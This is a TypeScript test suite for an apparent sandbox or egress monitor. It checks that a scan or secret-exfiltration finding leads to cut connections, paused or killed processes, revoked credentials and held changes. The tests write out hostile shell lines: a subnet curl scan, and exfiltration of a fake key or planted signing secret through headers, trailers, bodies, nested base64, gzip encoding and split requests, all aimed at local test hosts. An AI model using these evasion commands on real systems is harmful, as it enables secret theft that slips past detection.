/**
 * What findings lead to, on real runs: connections that end, credentials that are gone, processes that stand
 * still with what they were doing on disk, and everything else that goes on as before.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { Entry } from "../src/api/index.ts";
import { eventually, TestHome } from "./support/home.ts";

const home = new TestHome();
const seen: string[] = [];
/** `/stream` goes on until the connection ends; everything else is answered at once. */
const server: Server = createServer((request, response) => {
  const told = request.headers.authorization ?? "nobody";
  seen.push(`${request.method} ${request.url} ${told}`);
  if (request.url !== "/stream") response.end("ok\n");
  else {
    response.write("first\n");
    response.on("close", () => seen.push("stream ended"));
  }
});

before(async () => {
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const add = ["credential", "add", "shop", "--host", "shop.test", "--scheme", "http", "--stdin"];
  const { code, stderr } = await home.call(add, { input: "s3cret-of-the-shop\n" });
  assert.equal(code, 0, stderr);
});
after(async () => {
  server.closeAllConnections();
  server.close();
  await home.close();
});

const grant = (name: string, more = "") => `  - system: http
    name: ${name}
    hosts: [${name}.test]
    ports: [80]
    tls: false
    dial: 127.0.0.1:${(server.address() as AddressInfo).port}
${more}    allow: [{ methods: [GET, POST], paths: ["/**"] }]
`;

function task(respond: string): void {
  home.write(
    "task.yaml",
    `task: answer
purpose: see what a finding leads to
approvals: { hold: 1s }
respond: { ${respond} }
grants:
${grant("open")}${grant("shop", "    credential: shop\n")}`,
  );
}

/** Five destinations that no task names: a scan. */
const SCAN = "for n in 1 2 3 4 5 6; do curl -s --max-time 1 http://10.9.8.$n/ >/dev/null; done";

async function entriesOf(run: string): Promise<readonly Entry[]> {
  return (await home.log()).filter((entry) => entry.run === run);
}

async function start(script: string): Promise<string> {
  const { code, stdout, stderr } = await home.call([
    "run",
    "-d",
    "--task",
    "task.yaml",
    "--json",
    "--",
    "sh",
    "-c",
    script,
  ]);
  assert.equal(code, 0, stderr);
  const line = (stdout + stderr).split("\n").find((text) => text.includes('"run"'));
  return (JSON.parse(line ?? "{}") as { run: string }).run;
}

const answered = (run: string) =>
  eventually("the response", 10_000, async () =>
    (await entriesOf(run)).find(({ type }) => type === "response"),
  );

test("cut and pause: what was open ends, it stands still, and what it was doing is kept", async () => {
  task("scan: [cut, pause]");
  const run = await start(`curl -sN http://open.test/stream & sleep 1; ${SCAN}; sleep 60`);
  const response = await answered(run);
  const { data = {} } = response;
  assert.deepEqual(data["responses"], ["pause", "cut"]);
  assert.equal(data["cut"], 1);
  await eventually("the stream's end", 5000, () => seen.includes("stream ended"));
  const shown = await home.call(["ps", "--json"]);
  assert.match(shown.stdout, /"state":"paused"/);
  const kept = await eventually("the evidence", 5000, async () =>
    (await entriesOf(run)).find((entry) => entry.data?.["evidence"] !== undefined),
  );
  const text = readFileSync(kept.data?.["evidence"] as string, "utf8");
  assert.equal(createHash("sha256").update(text).digest("hex"), kept.data?.["evidenceSha256"]);
  const scene = JSON.parse(text) as { processes: { argv: string[]; maps: string[] }[] };
  const curl = scene.processes.find(({ argv }) => argv.includes("http://open.test/stream"));
  assert.ok(curl !== undefined, "the process that held the connection is in it");
  assert.ok(curl.maps.some((line) => line.includes("libcurl")));
  const finding = (await entriesOf(run)).find(({ type }) => type === "finding");
  assert.equal(data["finding"], finding?.seq);
  await home.call(["kill", run]);
});

test("confirm-all: reading goes on, and every change waits for a person (INV-151)", async () => {
  task("scan: confirm-all");
  const status = "curl -s -o /dev/null -w '%{http_code}\\n'";
  const { stdout } = await home.run(
    [
      "sh",
      "-c",
      `${status} -d x http://open.test/a; ${SCAN}; sleep 1; ${status} http://open.test/b; ${status} -d x http://open.test/c`,
    ],
    ["--task", "task.yaml"],
  );
  assert.deepEqual(stdout.trim().split("\n"), ["200", "200", "403"]);
  assert.ok(!seen.some((line) => line.includes("/c")), "it has not left");
  const held = (await home.log()).find(({ rule }) => rule === "finding.confirm-all");
  assert.deepEqual([held?.verdict, held?.target], ["confirm", "http://open.test/c"]);
});

test("revoke: grants with a credential are gone, and those without go on", async () => {
  task("scan: revoke");
  const status = "curl -s -o /dev/null -w '%{http_code}\\n'";
  const { stdout } = await home.run(
    [
      "sh",
      "-c",
      `${status} http://shop.test/a; ${SCAN}; sleep 1; ${status} http://shop.test/later; ${status} http://open.test/d`,
    ],
    ["--task", "task.yaml"],
  );
  assert.equal(stdout.trim().split("\n")[0], "200");
  assert.ok(seen.some((line) => line.startsWith("GET /a") && line.includes("s3cret-of-the-shop")));
  assert.ok(!seen.some((line) => line.startsWith("GET /later")));
  assert.equal(stdout.trim().split("\n").at(-1), "200");
});

test("kill: it is over, and on record as such", async () => {
  task("scan: [kill, alert]");
  const { stderr } = await home.run(["sh", "-c", `${SCAN}; sleep 60`], ["--task", "task.yaml"]);
  assert.match(stderr, /scan/);
  const last = (await home.log()).findLast(({ type }) => type === "run.end");
  assert.match(JSON.stringify(last?.data), /"reason":"finding"/);
});

test("without a finding nothing happens, whatever the task file asks for", async () => {
  task("scan: kill, mining: [cut, pause], sticky: kill");
  const { stdout, code } = await home.run(
    ["sh", "-c", "curl -s http://open.test/e && curl -s -d x http://open.test/f"],
    ["--task", "task.yaml"],
  );
  assert.deepEqual([stdout, code], ["ok\nok\n", 0]);
});

for (const answer of ["kill", "pause", "cut"]) {
  test(`${answer}: what was itself found does not leave, and what is ordinary does`, async () => {
    task(`exfiltration: ${answer}`);
    const name = `withheld-${answer}`;
    const run = await start(
      `curl -s http://open.test/ordinary-${answer}; curl -s "http://open.test/${name}?q=AKIADRILL0NOTREAL007"; sleep 60`,
    );
    await answered(run);
    await home.call(["kill", run]);
    assert.ok(seen.some((line) => line.includes(`/ordinary-${answer}`)));
    assert.ok(!seen.some((line) => line.includes(name)), "it has not left");
  });
}

/** A question with a field behind its body, which curl cannot ask. */
const TRAILER = `node -e '
const sent = require("http").request({ host: "open.test", path: "/MARK", headers: { "transfer-encoding": "chunked", trailer: "x-note" } });
sent.on("error", () => {});
sent.write("word"); sent.addTrailers({ "x-note": "AKIADRILL0NOTREAL007" }); sent.end();'`;
/** Ways in which a secret leaves in a question, as curl is told of them, or another program; the mark is in each. */
const WAYS: readonly (readonly [name: string, ...asked: string[]])[] = [
  ["trailer", TRAILER],
  ["header", "-H 'x-note: AKIADRILL0NOTREAL007' 'http://open.test/MARK'"],
  ["body", "-X GET -d '{\"q\": \"AKIADRILL0NOTREAL007\"}' 'http://open.test/MARK'"],
  [
    "streamed-body",
    "-X GET -H 'transfer-encoding: chunked' -d '{\"q\": \"AKIADRILL0NOTREAL007\"}' 'http://open.test/MARK'",
  ],
  [
    "twice",
    "\"http://open.test/MARK?q=$(printf AKIADRILL0NOTREAL007 | base64 | tr -d '\\n' | base64 -w0)\"",
  ],
  [
    "packed",
    '"http://open.test/MARK?q=$(printf AKIADRILL0NOTREAL007 | gzip | base64 -w0 | tr +/ -_)"',
  ],
  ["parameters", "'http://open.test/MARK?a=AKIADRILL&b=0NOTREAL007'"],
  ["requests", "'http://open.test/?part=AKIADRILL'", "'http://open.test/MARK?part=0NOTREAL007'"],
];
for (const [name, ...ways] of WAYS) {
  test(`INV-165: a secret does not leave in a question, however often it is tried: ${name}`, async () => {
    task("exfiltration: cut");
    const mark = `way-${name}`;
    const asks = ways.map((way) => {
      const line = way.replaceAll("MARK", mark);
      return way === TRAILER ? line : `curl -s ${line}`;
    });
    const run = await start(`${asks.join(";")}; ${asks.at(-1)}; ${asks.at(-1)}; sleep 60`);
    await answered(run);
    const denied = () =>
      entriesOf(run).then((all) =>
        all.filter(({ type, rule }) => type === "denial" && rule === "finding"),
      );
    await eventually(
      "three denials",
      10_000,
      async () => (await denied()).length >= 3 || undefined,
    );
    await home.call(["kill", run]);
    assert.ok(!seen.some((line) => line.includes(mark)), "it has not left");
    const found = (await entriesOf(run)).filter(({ type }) => type === "finding");
    assert.deepEqual(
      found.map(({ data }) => data?.["detector"]),
      ["exfil.secret"],
    );
    const told = new Set(["action", "finding", "denial"]);
    const record = (await entriesOf(run)).filter(({ type }) => told.has(type));
    const isShown = JSON.stringify(record.map(({ data }) => data)).includes("AKIADRILL0NOTREAL007");
    assert.ok(!isShown, "what was seen is on no record");
  });
}

test("benign twin: the same questions without a secret, and a client that logs in, go out", async () => {
  task("exfiltration: kill");
  const { code, stdout } = await home.run(
    [
      "sh",
      "-c",
      `curl -s -H 'x-note: a note' -H 'authorization: Bearer AKIADRILL0NOTREAL007' http://open.test/plain &&
curl -s -X GET -d '{"q": "a word"}' http://open.test/plain && curl -s -X GET -H 'transfer-encoding: chunked' -d word http://open.test/plain &&
curl -s "http://open.test/plain?q=$(printf 'a long and harmless text' | base64 | base64 -w0)&a=part&b=other"`,
    ],
    ["--task", "task.yaml"],
  );
  assert.deepEqual([code, stdout], [0, "ok\nok\nok\nok\n"]);
});

test("the planted credential, wrapped twice or in pieces over several requests, is noticed and refused", async () => {
  task("exfiltration: record");
  const { stdout } = await home.run(
    [
      "sh",
      "-c",
      `c=$RELEASE_SIGNING_SECRET; status() { curl -s -o /dev/null -w '%{http_code}\n' "$@"; }
status "http://open.test/canary-twice?q=$(printf %s "$c" | base64 -w0 | base64 -w0)"
for n in 1 12 23; do status "http://open.test/canary-piece?p=$(printf %s "$c" | cut -c$n-$((n + 10)))"; done
status "http://open.test/canary-after?p=ordinary"`,
    ],
    ["--task", "task.yaml"],
  );
  // The first two pieces hold the home's mark, which is enough: what is refused has not left.
  const [twice, first = "", second = "", third = "", last] = stdout.trim().split("\n");
  assert.deepEqual([twice, last], ["403", "200"]);
  // What stands behind a text that was refused may be taken for more of it: then the first is refused, too.
  assert.ok([first, second].includes("403"), stdout);
  assert.ok(!seen.some((line) => line.includes("canary-twice")));
  const left = [first, second, third].filter((one) => one === "200").length;
  assert.equal(seen.filter((line) => line.includes("canary-piece")).length, left);
  const found = (await home.log()).filter(({ data }) => data?.["detector"] === "canary");
  assert.ok(found.length >= 2);
});
